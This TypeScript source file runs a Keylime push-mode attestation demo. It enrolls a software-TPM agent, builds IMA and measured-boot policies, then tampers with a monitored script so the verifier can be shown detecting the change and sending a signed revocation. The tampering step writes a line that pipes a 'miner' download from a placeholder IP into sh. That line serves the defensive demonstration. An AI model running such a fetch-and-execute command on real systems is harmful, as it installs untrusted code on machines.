/**
 * `keylime demo --push`: the demo in push mode (API 3.0). The verifier runs with `mode = push`; the agent runs as
 * `keylime push-agent` on swtpm and opens no port: it registers, proves possession of its AK to the verifier and
 * submits a quote, its UEFI boot log and its IMA increment every interval. The tenant enrolls it with `--push-model` (the agent is
 * never contacted; `--cert` gives the verifier the revocation key). Then a program the agent runs changes: its IMA
 * emulator measures the new content, the next evidence fails the runtime policy, and the verifier sends a signed
 * revocation to the local webhook, which upstream's push verifier does not do.
 */
import { execFile } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { fileURLToPath } from 'node:url'
import { CliError, EXIT } from '../cli/errors.ts'
import { createCa } from '../crypto/ca.ts'
import { extendEventLogIntoTpm } from '../devtools/event-log-replay.ts'
import { type LocalCluster as Cluster, LocalCluster, waitFor } from '../devtools/local-cluster.ts'
import { type RevocationWebhook, startRevocationWebhook } from '../devtools/revocation-webhook.ts'
import { freePort, swtpmInstalled } from '../devtools/swtpm.ts'
import { createSecureBootKeys, syntheticEventLog } from '../devtools/synthetic-event-log.ts'
import { runTenantCommand, type TenantCliOptions } from '../tenant/cli-actions.ts'
import { createTenant } from '../tenant/wiring.ts'
import type { DemoOptions } from './demo.ts'

const BIN = resolve(fileURLToPath(new URL('../../bin/keylime.js', import.meta.url)))
const START = Date.now()

function say(line: string): void {
  const t = ((Date.now() - START) / 1000).toFixed(1).padStart(5)
  process.stdout.write(`[${t}s] ${line}\n`)
}

function keylime(args: string[]): Promise<string> {
  return new Promise((res, rej) => {
    execFile(process.execPath, [BIN, ...args], { timeout: 120_000 }, (err, stdout, stderr) =>
      err
        ? rej(new Error(`keylime ${args.slice(0, 3).join(' ')} failed: ${stderr || err.message}`))
        : res(stdout),
    )
  })
}

export async function runPushDemo(opts: DemoOptions): Promise<number> {
  if (!swtpmInstalled()) {
    process.stderr.write(
      'keylime demo needs swtpm: install it with `sudo apt-get install -y swtpm swtpm-tools tpm2-tools`\n',
    )
    return 1
  }
  if (opts.dir !== undefined && existsSync(opts.dir) && readdirSync(opts.dir).length > 0) {
    throw new CliError(
      `--dir ${opts.dir} is not empty: the CA and agents of an earlier run would clash`,
      EXIT.usage,
      'give a new or empty folder, or remove that one',
    )
  }
  const temporary = opts.dir === undefined
  const dir = opts.dir ? resolve(opts.dir) : mkdtempSync(join(tmpdir(), 'keylime-push-demo-'))
  mkdirSync(dir, { recursive: true, mode: 0o700 })
  say(`push mode; work directory ${dir} (logs in ${join(dir, 'logs')})`)
  let webhook: RevocationWebhook | undefined
  let cluster: Cluster | undefined
  let closeTenant: (() => Promise<void>) | undefined
  let cleaned = false
  const cleanUp = async () => {
    if (cleaned) return
    cleaned = true
    await closeTenant?.()
    await cluster?.stop()
    await webhook?.close()
    if (temporary && !opts.keep) rmSync(dir, { recursive: true, force: true })
  }
  const interrupted = () => {
    say('interrupted: stopping')
    cleanUp().finally(() => process.exit(130))
  }
  if (!opts.keep) process.once('SIGINT', interrupted)
  try {
    const tenantCa = join(dir, 'tenant-ca')
    await createCa(tenantCa, { commonName: 'Keylime TS push demo tenant CA' })
    const webhookPort = await freePort()
    webhook = startRevocationWebhook(webhookPort, () =>
      readFileSync(join(tenantCa, 'RevocationNotifier-cert.crt'), 'utf8'),
    )
    cluster = new LocalCluster({
      dir,
      quoteInterval: opts.quoteInterval,
      stepTimeout: opts.stepTimeout,
      webhookUrl: `http://127.0.0.1:${webhookPort}/revocation`,
      verifierEnv: { KEYLIME_VERIFIER_MODE: 'push', KEYLIME_VERIFIER_MEASURED_BOOT_POLICY_NAME: 'example' },
      onExit: (name, log) => say(`${name} exited unexpectedly; see ${log}`),
    })
    await cluster.startServices()
    say(`verifier in push mode at https://127.0.0.1:${cluster.verifierPort}: /v3.0 sessions and attestations`)
    say(
      `registrar http://127.0.0.1:${cluster.registrarPort} and https://127.0.0.1:${cluster.registrarTlsPort}`,
    )

    // The programs the machine runs; the agent's IMA emulator measures them now and whenever they change.
    const programs = join(dir, 'programs')
    mkdirSync(programs, { recursive: true, mode: 0o700 })
    const backup = join(programs, 'backup.sh')
    writeFileSync(backup, '#!/bin/sh\ntar czf /tmp/backup.tgz /etc\n', { mode: 0o700 })
    const health = join(programs, 'healthcheck.sh')
    writeFileSync(health, '#!/bin/sh\nexit 0\n', { mode: 0o700 })
    // The boot log the agent serves as its UEFI evidence; extended into its TPM below, as firmware would have.
    const bootLog = syntheticEventLog({ keys: await createSecureBootKeys() })
    const bootLogPath = join(dir, 'binary_bios_measurements')
    writeFileSync(bootLogPath, bootLog.bytes)
    const agent = await cluster.startPushAgent('push-agent1', [
      '--ima-emulator-paths',
      `${backup},${health}`,
      '--measuredboot-ml-path',
      bootLogPath,
    ])
    say(`push agent ${agent.uuid} started on swtpm (no listening port)`)
    await extendEventLogIntoTpm(agent.swtpm.transport, bootLog.bytes)
    say('measured boot: a synthetic UEFI boot log (Secure Boot, shim → grub → kernel) extended into its PCRs')

    const tenantBase: TenantCliOptions = { config: cluster.tenantConf }
    const tenant = await createTenant(tenantBase)
    closeTenant = () => tenant.close()
    await waitFor('the push agent to register and activate', opts.stepTimeout, async () =>
      (await tenant.registrar.getAgent(agent.uuid)) ? true : undefined,
    )
    say('push agent registered with the registrar (EK certificate, AK, credential activation)')
    await waitFor('the IMA emulator to measure the programs', opts.stepTimeout, () =>
      readFileSync(agent.imaList, 'utf8').split('\n').filter(Boolean).length >= 3 ? true : undefined,
    )
    const policyPath = join(dir, 'runtime-policy.json')
    await keylime(['policy', 'create', 'runtime', '-m', agent.imaList, '-o', policyPath])
    say("runtime policy generated from the agent's IMA list (2 programs + boot_aggregate)")
    const refstatePath = join(dir, 'mb-refstate.json')
    await keylime(['policy', 'create', 'measured-boot', '-e', bootLogPath, '-o', refstatePath])
    say('measured-boot reference state generated from the boot log')

    say(
      `tenant add --push-model ${agent.uuid}: tpm_policy {"15": [0…0]}, measured-boot and runtime policies, revocation key (--cert)`,
    )
    await runTenantCommand('add', {
      ...tenantBase,
      uuid: agent.uuid,
      pushModel: true,
      tpmPolicy: JSON.stringify({ 15: ['0'.repeat(64)] }),
      runtimePolicy: policyPath,
      mbPolicy: refstatePath,
      cert: tenantCa,
    })

    const status = () => tenant.service.cvstatus(agent.uuid)
    let seen = 0
    await waitFor('three good attestations', opts.stepTimeout, async () => {
      const s = await status()
      if (s.attestation_status === 'FAIL')
        throw new Error(`the push agent failed attestation: ${s.last_event_id}`)
      const count = Number(s.attestation_count ?? 0)
      if (count > seen) {
        seen = count
        say(
          `push agent: attestation #${count} passed (PoP token, quote over the challenge, UEFI log, IMA increment)`,
        )
      }
      return count >= 3 ? true : undefined
    })

    say(`tampering: ${backup} is replaced; the agent's IMA emulator measures the new content`)
    writeFileSync(backup, '#!/bin/sh\ncurl -s http://203.0.113.9/miner | sh\n', { mode: 0o700 })
    const tamperedAt = Date.now()
    const failed = await waitFor('the verifier to detect the change', opts.stepTimeout, async () => {
      const s = await status()
      return s.attestation_status === 'FAIL' ? s : undefined
    })
    say(
      `verifier detected it after ${((Date.now() - tamperedAt) / 1000).toFixed(1)}s: attestation_status FAIL, event ${failed.last_event_id}`,
    )
    const got = await waitFor('a revocation at the webhook', opts.stepTimeout, () => webhook?.received[0])
    if (!got.message) throw new Error(`the webhook got a revocation it could not verify: ${got.error}`)
    say(
      `webhook: signed revocation for ${got.message.agent_id} verified (event ${got.message.event_id ?? '(none)'})`,
    )
    say(
      'summary: push agent enrolled without inbound connection, attested, tampering detected, revocation delivered',
    )
    if (opts.keep) {
      process.stdout.write(
        [
          '',
          'Everything is still running (Ctrl-C to stop). Try the tenant:',
          `  npx keylime tenant -c cvstatus --push-model -u ${agent.uuid} --config ${cluster.tenantConf}`,
          `  npx keylime tenant -c bulkinfo --config ${cluster.tenantConf}`,
          '',
        ].join('\n'),
      )
      await new Promise<void>((r) => {
        process.once('SIGINT', () => r())
        process.once('SIGTERM', () => r())
      })
    }
    return 0
  } catch (err) {
    say(`demo failed: ${(err as Error).message}`)
    if (temporary) say('rerun with --dir DIR to keep the logs and files of the run')
    return 1
  } finally {
    process.removeListener('SIGINT', interrupted)
    await cleanUp()
  }
}
